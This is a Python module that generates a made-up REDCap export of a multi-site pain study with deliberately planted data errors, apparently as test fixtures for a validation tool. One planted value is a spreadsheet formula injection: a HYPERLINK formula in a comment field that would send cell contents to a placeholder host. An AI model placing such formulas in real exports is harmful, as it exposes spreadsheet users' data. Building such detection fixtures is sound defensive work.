"""A made-up REDCap export of a multi-centre study, with errors planted on purpose and a list of them."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path

import numpy as np

from corticolimbic.foundation import write_text
from corticolimbic.simulate._streams import stream

SITES = ("north", "south", "east", "west", "centre", "coast", "lake")
EVENTS = ("baseline", "week_6", "month_3", "month_6", "month_12", "year_3")
_DAYS = (0, 42, 91, 182, 365, 1095)
_ITEMS = {"pcs": (13, 0, 4), "phq9": (9, 0, 3), "gad7": (7, 0, 3), "bpi": (11, 0, 10), "odi": (10, 0, 5)}
"""Form to its number of items and the ends of their scale."""
_START = date(2019, 3, 1)
_HEADER = (
    "Variable / Field Name", "Form Name", "Section Header", "Field Type", "Field Label",
    "Choices, Calculations, OR Slider Labels", "Field Note", "Text Validation Type OR Show Slider Number",
    "Text Validation Min", "Text Validation Max", "Identifier?",
    "Branching Logic (Show field only if...)", "Required Field?",
)  # fmt: skip
KINDS = (
    "out of range", "no number", "unknown choice", "impossible date", "spreadsheet date", "before birth",
    "visit order", "outside window", "unknown site", "duplicate visit", "two sexes", "two birth years",
    "unit mix", "pounds", "event mismatch", "diary before first visit", "diary day twice", "unknown event",
    "mangled id", "formula",
)  # fmt: skip
"""Kinds of errors that can be planted."""
_CODES = {
    "out of range": "CL312", "no number": "CL307", "unknown choice": "CL323", "impossible date": "CL319",
    "spreadsheet date": "CL320", "before birth": "CL324", "visit order": "CL325", "outside window": "CL326",
    "unknown site": "CL327", "duplicate visit": "CL328", "two sexes": "CL329", "two birth years": "CL329",
    "unit mix": "CL330", "pounds": "CL330", "event mismatch": "CL331", "diary before first visit": "CL332",
    "diary day twice": "CL332", "unknown event": "CL333", "mangled id": "CL321", "formula": "CL322",
}  # fmt: skip


@dataclass(frozen=True, order=True)
class PlantedError:
    """One error that was put into the export: its kind, the problem that names it, and its row."""

    kind: str
    code: str
    row: int


@dataclass(frozen=True)
class RedcapExport:
    """Files of a made-up export.

    Parameters
    ----------
    records, dictionary, designations
        The files: export, data dictionary, and which form belongs to which event.
    planted
        Errors that were put in.
    n_rows
        Rows of the export.
    """

    records: Path
    dictionary: Path
    designations: Path
    planted: tuple[PlantedError, ...]
    n_rows: int


@dataclass
class _Rows:
    """Rows as they are made; ``of`` finds the row of a person's event."""

    names: tuple[str, ...]
    rows: list[dict[str, str]] = field(default_factory=list)
    of: dict[tuple[int, str], int] = field(default_factory=dict)
    diary: dict[int, list[int]] = field(default_factory=dict)


def redcap_export(
    folder: Path,
    *,
    people: int = 300,
    diary_days: int = 30,
    seed: int = 20260401,
    errors_of_each_kind: int = 3,
) -> RedcapExport:
    """Write an export of seven sites, six waves and a diary, as raw CSV with dictionary and designations.

    Parameters
    ----------
    folder
        Where the three files go.
    people
        Participants; at least three times ``errors_of_each_kind`` for each of the kinds of error.
    diary_days
        Diary entries a person.
    seed
        Seed of all random streams.
    errors_of_each_kind
        Errors planted of each kind in `KINDS`, each in a person of its own (one of the kind "unit mix": a
        whole site's column).

    Returns
    -------
    RedcapExport
        The files and what was planted.
    """
    made = _study(people, diary_days, seed)
    planted = _plant(made, people, errors_of_each_kind, seed)
    records, dictionary, designations = (
        folder / name for name in ("records.csv", "dictionary.csv", "designations.csv")
    )
    write_text(records, _csv(made.names, ([row.get(name, "") for name in made.names] for row in made.rows)))
    write_text(dictionary, _csv(_HEADER, _dictionary()))
    write_text(designations, _csv(("arm_num", "unique_event_name", "form"), _designations()))
    return RedcapExport(records, dictionary, designations, tuple(sorted(planted)), len(made.rows))


def _csv(header: tuple[str, ...], rows: Iterator[list[str]]) -> str:
    stream_ = io.StringIO()
    writer = csv.writer(stream_, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return stream_.getvalue()


def _dictionary() -> Iterator[list[str]]:
    def row(name: str, form: str, kind: str, label: str, **more: str) -> list[str]:
        keys = ("choices", "note", "validation", "low", "high", "identifier", "shown_if", "required")
        cells = [more.get(key, "") for key in keys]
        return [name, form, "", kind, label, *cells]

    yield row("record_id", "person", "text", "Record ID")
    yield row("birth_date", "person", "text", "Date of birth", validation="date_ymd", identifier="y")
    yield row("sex", "person", "radio", "Sex", choices="1, male | 2, female")
    yield row("condition", "person", "dropdown", "Condition", choices="1, back | 2, knee | 3, thorax")
    yield row("medication", "person", "checkbox", "Medication", choices="1, opioid | 2, NSAID | 3, other")
    yield row("opioid_dose", "person", "text", "Dose", note="mg", validation="number", low="0", high="500",
              shown_if="[medication(1)] = '1'")  # fmt: skip
    yield row("visit_date", "visit", "text", "Date of the visit", validation="date_ymd")
    yield row("visit_sex", "visit", "radio", "Sex, for checking", choices="1, male | 2, female")
    yield row("visit_birth_year", "visit", "text", "Year of birth, for checking", validation="integer")
    yield row("weight", "visit", "text", "Weight", note="kg", validation="number", low="25", high="260")
    yield row("pain_now", "visit", "text", "Pain now", validation="number", low="0", high="10")
    yield row("pain_week", "visit", "text", "Pain, mean of the week", validation="number", low="0", high="10")
    yield row("comment", "visit", "notes", "Remarks")
    for form, (items, low, high) in _ITEMS.items():
        for item in range(1, items + 1):
            yield row(f"{form}_{item}", form, "text", f"{form} {item}", validation="integer",
                      low=str(low), high=str(high))  # fmt: skip
    yield row("diary_date", "diary", "text", "Day", validation="date_ymd")
    yield row("diary_pain", "diary", "text", "Pain of the day", validation="integer", low="0", high="10")
    yield row("diary_sleep", "diary", "text", "Sleep", note="h", validation="number", low="0", high="24")


def _designations() -> Iterator[list[str]]:
    for event in EVENTS:
        forms = ["visit", *_ITEMS] if event != "year_3" else ["visit", "pcs", "bpi"]
        if event == "baseline":
            forms = ["person", *forms, "diary"]
        for form in forms:
            yield ["1", f"{event}_arm_1", form]


def _names() -> tuple[str, ...]:
    own = ("record_id", "redcap_event_name", "redcap_repeat_instrument", "redcap_repeat_instance",
           "redcap_data_access_group")  # fmt: skip
    fields, form = [], ""
    for row in _dictionary():
        if form and row[1] != form:
            fields.append(f"{form}_complete")
        form = row[1]
        if row[3] == "checkbox":
            fields += [f"{row[0]}___{code}" for code in "123"]
        elif row[0] != "record_id":
            fields.append(row[0])
    return (*own, *fields, f"{form}_complete")


def _study(people: int, diary_days: int, seed: int) -> _Rows:
    made = _Rows(_names())
    for person in range(people):
        random = stream(seed, "redcap", str(person))
        start = _START + timedelta(days=int(random.integers(0, 700)))
        born = start - timedelta(days=int(random.integers(20 * 365, 80 * 365)))
        sex = str(random.integers(1, 3))
        base = {
            "record_id": f"{person + 1:05d}",
            "redcap_data_access_group": SITES[person % len(SITES)],
        }
        weight, pain = float(random.normal(75, 9)), float(random.uniform(2, 8))
        for event, day in zip(EVENTS, _DAYS, strict=True):
            row = {**base, "redcap_event_name": f"{event}_arm_1"}
            if event == "baseline":
                row |= _person(random, born, sex)
            when = start + timedelta(days=day + (0 if day == 0 else int(random.integers(-7, 8))))
            row |= _visit(random, when, sex, weight, pain)
            row["visit_birth_year"] = str(born.year)
            for form, (items, low, high) in _ITEMS.items():
                if event != "year_3" or form in {"pcs", "bpi"}:
                    row |= _form(random, form, items, low, high)
            made.of[person, event] = len(made.rows)
            made.rows.append(row)
        made.diary[person] = []
        for entry in range(diary_days):
            day_of_entry = start + timedelta(days=entry + 1)
            made.diary[person].append(len(made.rows))
            made.rows.append(
                {
                    **base,
                    "redcap_event_name": "baseline_arm_1",
                    "redcap_repeat_instrument": "diary",
                    "redcap_repeat_instance": str(entry + 1),
                    "diary_date": day_of_entry.isoformat(),
                    "diary_pain": str(int(np.clip(round(random.normal(pain, 1)), 0, 10))),
                    "diary_sleep": f"{np.clip(random.normal(7, 1), 0, 24):.1f}",
                    "diary_complete": "2",
                }
            )
    return made


def _person(random: np.random.Generator, born: date, sex: str) -> dict[str, str]:
    opioid = int(random.random() < 0.3)
    return {
        "birth_date": born.isoformat(),
        "sex": sex,
        "condition": str(random.integers(1, 4)),
        "medication___1": str(opioid),
        "medication___2": str(random.integers(0, 2)),
        "medication___3": str(random.integers(0, 2)),
        "opioid_dose": str(random.integers(5, 120)) if opioid else "",
        "person_complete": "2",
    }


def _visit(random: np.random.Generator, when: date, sex: str, weight: float, pain: float) -> dict[str, str]:
    return {
        "visit_date": when.isoformat(),
        "visit_sex": sex,
        "weight": f"{weight * random.normal(1, 0.015):.1f}",
        "pain_now": str(int(np.clip(round(random.normal(pain, 1.5)), 1, 10))),
        "pain_week": f"{np.clip(random.normal(pain, 1), 0, 10):.1f}",
        "visit_complete": "2",
    }


def _form(random: np.random.Generator, form: str, items: int, low: int, high: int) -> dict[str, str]:
    answers = random.integers(low, high + 1, items)
    cells = {f"{form}_{item + 1}": str(answer) for item, answer in enumerate(answers)}
    if random.random() < 0.05:
        cells[f"{form}_{int(random.integers(1, items + 1))}"] = ("REF", "NASK", "")[int(random.integers(3))]
    return {**cells, f"{form}_complete": "2"}


def _plant(made: _Rows, people: int, each: int, seed: int) -> list[PlantedError]:
    """Put errors into the rows, each into a person of its own; return them with their rows in the file."""
    random = stream(seed, "errors")
    mixed = SITES[-1]
    free = [person for person in random.permutation(people).tolist() if SITES[person % len(SITES)] != mixed]
    planted: list[PlantedError] = []
    extra: list[tuple[int, dict[str, str]]] = []
    for kind in KINDS:
        if kind == "unit mix":
            continue
        for _ in range(each):
            at = _spoil(made, kind, free.pop(), extra)
            planted.append(PlantedError(kind, _CODES[kind], at))
    if each:
        rows = [
            made.of[person, event]
            for person in range(people)
            for event in EVENTS
            if SITES[person % len(SITES)] == mixed
        ]
        for row in rows:
            made.rows[row]["pain_now"] = str(int(made.rows[row]["pain_now"]) * 10)
        first = next(row for row in sorted(rows) if float(made.rows[row]["pain_now"]) > 10)
        planted.append(PlantedError("unit mix", _CODES["unit mix"], first))
    return _in_file(made, planted, extra)


def _in_file(
    made: _Rows, planted: list[PlantedError], extra: list[tuple[int, dict[str, str]]]
) -> list[PlantedError]:
    """Insert repeated rows after their originals and turn places of rows into rows of the file."""
    after = {at: row for at, row in extra}
    rows: list[dict[str, str]] = []
    place: dict[int, int] = {}
    for at, row in enumerate(made.rows):
        place[at] = len(rows)
        rows.append(row)
        if at in after:
            rows.append(after[at])
    made.rows[:] = rows
    return [
        PlantedError(item.kind, item.code, place[item.row] + 2 + (item.kind == "duplicate visit"))
        for item in planted
    ]


def _spoil(made: _Rows, kind: str, person: int, extra: list[tuple[int, dict[str, str]]]) -> int:  # noqa: C901
    """Put one error of a kind into a person's rows; return the place of the row that shows it."""
    first, third = made.of[person, "baseline"], made.of[person, "month_3"]
    visit, entry = made.rows[third], made.rows[made.diary[person][4]]
    if kind == "out of range":
        visit["phq9_3"] = "7"
    elif kind == "no number":
        visit["pcs_2"] = "much"
    elif kind == "unknown choice":
        made.rows[first]["condition"] = "9"
        return first
    elif kind == "impossible date":
        visit["visit_date"] = "2020-02-31"
    elif kind == "spreadsheet date":
        visit["visit_date"] = "43867"
    elif kind == "before birth":
        visit["visit_date"] = "1901-05-04"
    elif kind == "visit order":
        visit["visit_date"] = _shifted(made.rows[first]["visit_date"], 5)
    elif kind == "outside window":
        visit["visit_date"] = _shifted(made.rows[first]["visit_date"], 140)
    elif kind == "unknown site":
        visit["redcap_data_access_group"] = "nroth"
    elif kind == "duplicate visit":
        extra.append((third, {**visit, "pain_now": "3" if visit["pain_now"] != "3" else "4"}))
    elif kind == "two sexes":
        visit["visit_sex"] = "1" if visit["visit_sex"] == "2" else "2"
    elif kind == "two birth years":
        visit["visit_birth_year"] = "1901"
    elif kind == "pounds":
        visit["weight"] = f"{float(made.rows[first]['weight']) * 2.20462:.1f}"
    elif kind == "event mismatch":
        last = made.of[person, "year_3"]
        made.rows[last]["gad7_4"] = "2"
        return last
    elif kind == "diary before first visit":
        entry["diary_date"] = _shifted(made.rows[first]["visit_date"], -20)
        return made.diary[person][4]
    elif kind == "diary day twice":
        entry["diary_date"] = made.rows[made.diary[person][3]]["diary_date"]
        return made.diary[person][4]
    elif kind == "unknown event":
        visit["redcap_event_name"] = "month_4_arm_1"
    elif kind == "mangled id":
        visit["record_id"] = str(int(visit["record_id"]))
    elif kind == "formula":
        visit["comment"] = '=HYPERLINK("http://example.org/?x="&A1,"see")'
    return third


def _shifted(day: str, days: int) -> str:
    return (date.fromisoformat(day) + timedelta(days=days)).isoformat()
